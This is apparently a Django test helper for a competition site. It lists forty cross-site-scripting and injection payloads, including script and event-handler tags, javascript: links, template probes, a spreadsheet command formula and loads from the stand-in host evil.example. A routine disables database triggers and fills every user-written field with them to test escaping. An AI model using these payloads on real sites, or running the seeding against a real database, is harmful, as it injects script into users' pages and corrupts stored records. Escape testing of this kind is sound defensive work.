"""Forty texts that run a script where a page takes them for more than text, and books full of them."""

import itertools
import json
from collections.abc import Iterator

from django.apps import apps
from django.db import connection, models

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "<body onload=alert(4)>",
    "<iframe src=javascript:alert(5)>",
    '"><script>alert(6)</script>',
    "'><img src=x onerror=alert(7)>",
    '" onmouseover="alert(8)" x="',
    "' onfocus='alert(9)' autofocus='",
    "javascript:alert(10)",
    "<a href=javascript:alert(11)>x</a>",
    "[x](javascript:alert(12))",
    "[x](data:text/html,<script>alert(13)</script>)",
    '![x](x"onerror="alert(14))',
    "<javascript:alert(15)>",
    "</textarea><script>alert(16)</script>",
    "</title><script>alert(17)</script>",
    "</style><script>alert(18)</script>",
    "</script><script>alert(19)</script>",
    "--><script>alert(20)</script>",
    "]]><script>alert(21)</script>",
    "<scr<script>ipt>alert(22)</script>",
    "<ScRiPt>alert(23)</sCrIpT>",
    "<script/src=//evil.example></script>",
    "<details open ontoggle=alert(25)>",
    "<input autofocus onfocus=alert(26)>",
    "<video><source onerror=alert(27)>",
    "<marquee onstart=alert(28)>",
    "<math><mi xlink:href=javascript:alert(29)>",
    "<object data=javascript:alert(30)>",
    "<embed src=javascript:alert(31)>",
    "<form action=javascript:alert(32)><button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=x>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=color:red onclick=alert(37)>",
    "{{7*7}}{% debug %}${alert(38)}",
    "&lt;script&gt;alert(39)&lt;/script&gt;",
    "=cmd|' /C calc'!A0",
)
FREE = {
    "Competition": {"title", "about", "notice", "citation", "bibtex"},
    "Terms": {"text"},
    "Announcement": {"title", "text"},
    "AuditEvent": {"subject", "reason"},
    "Phase": {"title"},
    "Extension": {"reason"},
    "GroundTruth": {"reason", "review"},
    "Team": {"name"},
    "Awards": {"reason"},
    "Award": {"bracket_title", "prize", "team_name"},
    "Bracket": {"title", "eligibility"},
    "Claim": {"statement", "reason"},
    "DeadlineExtension": {"reason"},
    "Submission": {"note", "file_name", "disqualification"},
    "Allowance": {"reason"},
    "Revocation": {"reason"},
    "Entrant": {"reason"},
    "ErratumReport": {"text", "label"},
    "Evaluation": {"failure_detail"},
    "Attempt": {"detail"},
    "Hint": {"dismissal"},
    "Letter": {"subject", "text", "fault"},
    "RulesVersion": {"text", "short_notice"},
    "ApiToken": {"name"},
    "User": {"username", "first_name", "last_name"},
    "Recount": {"failure"},
    "Track": set(),
}
"""Texts that a person has written, by model. All others are made by the server or are names in addresses."""
MADE = {"slug", "rules", "invitation", "sha256", "version", "act", "previous", "hash", "key", "metric", "state"}
MADE |= {"commitment", "fingerprint", "metric_version", "detail", "shows", "etag", "name_key", "skeleton", "bracket"}
MADE |= {"file", "idempotency_key", "image_id", "worker", "failure", "pair", "basis", "canonical", "actor", "email"}
MADE |= {"prefix", "password", "name"}
LISTS = {
    "Competition": {"questions": lambda all_of_them: list(all_of_them)},
    "Bracket": {"prizes": lambda all_of_them: list(all_of_them)},
    "Entrant": {"answers": lambda all_of_them: list(all_of_them)},
    "Declaration": {
        "items": lambda all_of_them: [
            {"kind": "model", "name": text, "source": text, "licence": text, "public": False} for text in all_of_them
        ]
    },
}


def texts_of(model: type[models.Model]) -> Iterator[models.Field]:
    """The fields that hold a text of any words."""
    for field in model._meta.concrete_fields:
        if isinstance(field, models.CharField | models.TextField) and not field.choices:
            yield field


def unknown_texts() -> set[str]:
    """The fields of which nobody has said whether a person writes them."""
    found = set()
    for model in apps.get_app_config("competition").get_models():
        known = MADE | FREE.get(model.__name__, set())
        found |= {f"{model.__name__}.{field.name}" for field in texts_of(model) if field.name not in known}
    return found


def fitting(longest: int | None, start: int) -> str:
    """As many payloads as fit, from one of them on; in a text without a limit, all."""
    rotated = [*PAYLOADS[start % len(PAYLOADS) :], *PAYLOADS[: start % len(PAYLOADS)]]
    text = ""
    for payload in rotated:
        if longest is not None and len(text) + len(payload) + 1 > longest:
            break
        text += ("\n" if longest is None else " ") * bool(text) + payload
    return text


def poison_the_books() -> int:
    """Fill every text of every row, past the rules and triggers that keep them; how many texts there were."""
    start, count = itertools.count(), 0
    with connection.cursor() as cursor:
        for model in apps.get_app_config("competition").get_models():
            if not model._meta.managed:
                continue
            table = model._meta.db_table
            cursor.execute(f"ALTER TABLE {table} DISABLE TRIGGER USER")
            chosen = [field for field in texts_of(model) if field.name in FREE.get(model.__name__, set())]
            for row in model.objects.all():
                # What is empty says by that what has not happened, which the books hold against other facts.
                full = [field for field in chosen if getattr(row, field.attname) or model.__name__ == "Competition"]
                words = {field.attname: fitting(field.max_length, next(start)) for field in full}
                if model.__name__ == "User":
                    words.pop("username", None)
                words |= {name: make(PAYLOADS) for name, make in LISTS.get(model.__name__, {}).items()}
                count += len(words)
                if words:
                    model.objects.filter(pk=row.pk).update(**words)
            cursor.execute(f"ALTER TABLE {table} ENABLE TRIGGER USER")
    return count


def poisoned_entries(entries: list[dict[str, object]]) -> str:
    """A board's rows, of forty teams whose names are the payloads."""
    return json.dumps([{**entries[index % len(entries)], "team": text} for index, text in enumerate(PAYLOADS)])
